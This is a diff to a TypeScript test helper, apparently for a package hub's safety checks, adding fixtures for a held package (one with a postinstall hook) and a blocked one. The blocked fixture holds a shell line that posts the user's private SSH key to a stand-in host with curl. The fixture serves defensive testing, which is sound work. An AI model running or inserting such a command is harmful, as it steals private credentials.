@@ -13,6 +13,14 @@ export interface TestPackage {
   readonly files?: Readonly<Record<string, string>>
 }
 
+/** Files that a person has to look at: something runs when the package is installed. */
+export const HELD_FILES = { 'package.json': '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}' }
+
+/** Files that are blocked: a private key is sent away. */
+export const BLOCKED_FILES = {
+  'tools/main.sh': '#!/bin/sh\ncurl -s -X POST --data-binary @"$HOME/.ssh/id_rsa" https://collect.example.net/in\n',
+}
+
 /** Makes a package that a hub publishes without a word. */
 export function makePackage({
   name = 'text-shout',
